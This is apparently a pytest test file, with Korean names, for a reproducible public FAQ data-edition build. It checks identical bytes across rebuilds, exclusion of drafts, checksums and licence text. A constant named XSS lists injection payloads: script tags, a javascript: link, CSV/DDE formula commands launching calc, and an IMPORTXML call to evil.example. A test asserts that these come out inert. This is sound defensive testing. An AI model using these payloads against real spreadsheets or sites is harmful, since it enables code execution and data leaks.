"""한 판: 같은 내용이면 이름도 바이트도 같고, 공개한 안내만 들어 있다."""

import hashlib
import json
import os
import random
import sqlite3
import subprocess
import sys
import tarfile
import zipfile
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest

from app.public import create_public_app
from build.data.edition import version_of
from build.errors import PublishFailed
from kb.entry import Entry, Status
from tests.build.data import reading
from tests.build.data.conftest import 고친_때, 누리집, 설정, 안내들
from tests.conftest import 여권

ROOT = Path(__file__).parents[3]
XSS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[눌러](javascript:alert(1))", "]]><script>1</script>",
    '=cmd|"/C calc"!A0', '@SUM(1+1)*cmd|"/C calc"!A0', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")', "\t=1+1", "\r=1+1", "__proto__",
)  # fmt: skip
"""여러 형식에서 말썽이 되는 글들."""


def 바이트들(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def test_같은_내용에서_다시_만들면_바이트까지_같다(판, 판짓기, 작은_누리집):
    assert 바이트들(판짓기(작은_누리집)) == 바이트들(판)


def test_다른_프로세스가_다른_시간대와_해시_씨앗으로_만들어도_바이트까지_같다(판, tmp_path):
    folder, script = tmp_path / "edition", tmp_path / "make.py"
    folder.mkdir()
    script.write_text(
        "import sys\nfrom pathlib import Path\nfrom build.data.edition import write_edition\n"
        "from tests.build.data.conftest import 누리집, 안내들\nwrite_edition(Path(sys.argv[1]), 누리집(안내들))\n",
        "utf-8",
    )
    away = {"TZ": "America/New_York", "PYTHONHASHSEED": "7", "LC_ALL": "C", "PYTHONPATH": str(ROOT)}

    subprocess.run([sys.executable, script, folder], check=True, cwd=tmp_path, env={**os.environ, **away})

    assert 바이트들(folder) == 바이트들(판)


def test_글을_하나씩_이어_넣은_판도_한꺼번에_읽은_판과_바이트까지_같다(판, 판짓기):
    섞인_것 = list(안내들)
    random.Random(120).shuffle(섞인_것)
    site = 누리집([])
    for entry in 섞인_것:
        site = site.after([entry], head=entry.id)

    assert version_of(site) == version_of(누리집(안내들))
    assert 바이트들(판짓기(site)) == 바이트들(판)


@pytest.mark.parametrize(
    "바뀐_것",
    [
        replace(여권, body="새 본문입니다.\n"),
        replace(여권, status=Status.RETIRED, gone=True),
        replace(여권, id="k77", title="새 안내"),
        replace(여권, id="k4", status=Status.RETIRED, gone=False, redirect_to="k1"),
    ],
)
def test_내용이_바뀌면_판의_이름이_바뀐다(작은_누리집, 바뀐_것):
    assert version_of(작은_누리집.after([바뀐_것], head="")) != version_of(작은_누리집)


def test_초안이_바뀌어도_판의_이름은_그대로다(작은_누리집):
    초안 = next(entry for entry in 안내들 if entry.status is Status.DRAFT)

    assert version_of(작은_누리집.after([replace(초안, body="더 씀.\n")], head="")) == version_of(작은_누리집)


def test_판의_이름은_마지막으로_고친_날로_시작한다(작은_누리집):
    assert version_of(작은_누리집).startswith(f"{고친_때:%Y.%m.%d}-")


def test_모든_파일에서_초안과_내린_안내의_글은_찾을_수_없다(판):
    for 이름, 글 in 풀어_본_글들(판).items():
        for 말 in ("초안", "k900", "없앤 본문", "없어진 제도의 제목", "옮긴 안내의 제목", "맴도는"):
            assert 말.encode() not in 글, f"{이름}에 ‘{말}’(이)가 있다"


def 풀어_본_글들(folder: Path) -> dict[str, bytes]:
    """압축을 푼 바이트들."""
    found = 바이트들(folder)
    with zipfile.ZipFile(folder / "faq.xlsx") as zipped:
        found["faq.xlsx"] = b"".join(zipped.read(name) for name in zipped.namelist())
    with tarfile.open(folder / "faq-md.tar.gz") as tar:
        found["faq-md.tar.gz"] = b"".join(tar.extractfile(member).read() for member in tar)
    found["faq.parquet"] = json.dumps(reading.parquet(folder / "faq.parquet"), ensure_ascii=False).encode()
    return found


def test_누리집에_있는_쪽과_내려받을_안내는_하나하나_같다(판, 작은_누리집):
    손님 = create_public_app(작은_누리집).test_client()

    받은_것 = reading.jsonl(판 / "faq.jsonl")

    assert [line["id"] for line in 받은_것] == list(작은_누리집.entries)
    for line in 받은_것:
        쪽 = 손님.get(line["url"].removeprefix(설정.base_url))
        assert 쪽.status_code == 200
        assert 여기_적힌(쪽.text, line["version"]), "쪽과 자료가 같은 판의 글이다"


def 여기_적힌(html: str, version: str) -> bool:
    return f"v={version}" in html


def test_SHA256SUMS는_판의_모든_파일을_맞춰_본다(판):
    done = subprocess.run(["sha256sum", "-c", "--strict", "SHA256SUMS"], cwd=판, capture_output=True, check=False)

    assert done.returncode == 0, done.stdout.decode()
    assert len(done.stdout.splitlines()) == len(list(판.iterdir())) - 1


def test_파일의_때는_마지막으로_고친_때다(판):
    assert {path.stat().st_mtime for path in 판.iterdir()} == {고친_때.timestamp()}


def test_주민등록번호가_든_안내가_있으면_아무것도_만들지_않는다(판짓기, tmp_path):
    나쁨 = replace(여권, id="k50", facts={"예": "900101-1234567"})

    with pytest.raises(PublishFailed, match="k50"):
        판짓기(누리집([*안내들, 나쁨]))
    assert [path for folder in tmp_path.iterdir() for path in folder.iterdir()] == []


def test_말썽이_될_글이_어느_칸에_있어도_글로만_나간다(판짓기):
    site = 누리집(
        Entry(
            id=f"k{n}", title=f"{text.strip()} 제목", topic="교통", department=text, phone=text, facts={f"{n}": text},
            tags=(text,), districts=(text,), source=replace(여권.source, name=text, url=text), updated=고친_때, body=f"{text}\n",
        )
        for n, text in enumerate(XSS, start=1)
    )  # fmt: skip
    folder = 판짓기(site)

    assert (
        reading.csv_안내(folder / "faq.csv")
        == reading.jsonl(folder / "faq.jsonl")
        == reading.sqlite(folder / "faq.sqlite")
    )
    for name in ("faq.csv", "sources.csv"):
        assert not [t for row in reading.csv_표(folder / name) for t in row.values() if t[:1] in tuple("=+-@\t\r")]
    with zipfile.ZipFile(folder / "faq.xlsx") as zipped:
        assert not [
            name for name in zipped.namelist() if b"<f>" in zipped.read(name) or b"hyperlink" in zipped.read(name)
        ]


def test_안내가_하나도_없어도_판을_만들_수_있다(판짓기):
    folder = 판짓기(누리집([]))

    assert reading.jsonl(folder / "faq.jsonl") == reading.csv_안내(folder / "faq.csv") == []
    assert reading.parquet(folder / "faq.parquet") == reading.sqlite(folder / "faq.sqlite") == []
    assert hashlib.sha256((folder / "faq.csv").read_bytes()).hexdigest() in (folder / "SHA256SUMS").read_text("utf-8")


def test_이용_조건과_읽어_주세요에는_출처마다의_조건과_고친_날이_있다(판):
    조건 = (판 / "LICENCE.txt").read_text("utf-8")
    글 = (판 / "README.md").read_text("utf-8")

    assert "- 여권법 제11조: 출처가 이용 조건을 밝히지 않은 자료, 안내 2개" in 조건
    assert "- 120다산콜재단 자주묻는질문: 공공누리 제1유형 (출처표시), 안내 1개" in 조건
    assert "creativecommons.org/licenses/by/4.0" in 조건
    assert "공개 안내 3개, 2026-11-20까지" in 글
    assert all(
        f"`{path.name}`" in 글 for path in 판.iterdir() if path.suffix in (".csv", ".jsonl", ".xlsx", ".parquet")
    )


def test_읽어_주세요의_SQL은_정말_돌아간다(판):
    물음들 = (판 / "README.md").read_text("utf-8").split("```sql\n")[1].split("```")[0]

    with closing(sqlite3.connect(판 / "faq.sqlite")) as database:
        답들 = [database.execute(물음).fetchall() for 물음 in filter(str.strip, 물음들.split(";"))]
    assert len(답들) == 2
    assert ("k1", 여권.title) in 답들[1]
